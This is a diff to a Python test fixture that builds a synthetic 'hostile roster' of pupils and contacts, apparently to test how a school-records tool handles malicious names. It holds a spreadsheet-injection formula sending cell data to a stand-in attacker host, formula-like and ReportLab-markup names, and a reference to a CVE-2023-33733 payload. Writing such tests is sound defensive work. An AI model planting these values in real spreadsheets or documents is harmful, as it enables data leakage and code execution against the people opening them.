@@ -40,7 +40,8 @@ FORMULA = '=HYPERLINK("https://evil.example/?d="&B2,"Click")'
 
 def hostile_roster() -> Roster:
     """Synthetic: S1 Tom Smith (the fake reader's child) with C1, a PR contact whose names are
-    spreadsheet formulas; S2 a pupil named with ReportLab markup, C2 likewise (PR)."""
+    spreadsheet formulas; S2 a pupil named with ReportLab markup, C2 (PR) whose surname is
+    the CVE-2023-33733 payload."""
     home = Address(("12 Acacia Avenue", "Belper"), "DE56 1AA")
     students = (
         Student(
@@ -71,8 +72,8 @@ def hostile_roster() -> Roster:
         Contact(
             "C2",
             "Dr",
-            FONT_PAYLOAD,
             "-2+3",
+            FONT_PAYLOAD,
             Address(("\t9 Tab Street",), "DE56 2BB"),
             email="c2@example.org",
         ),
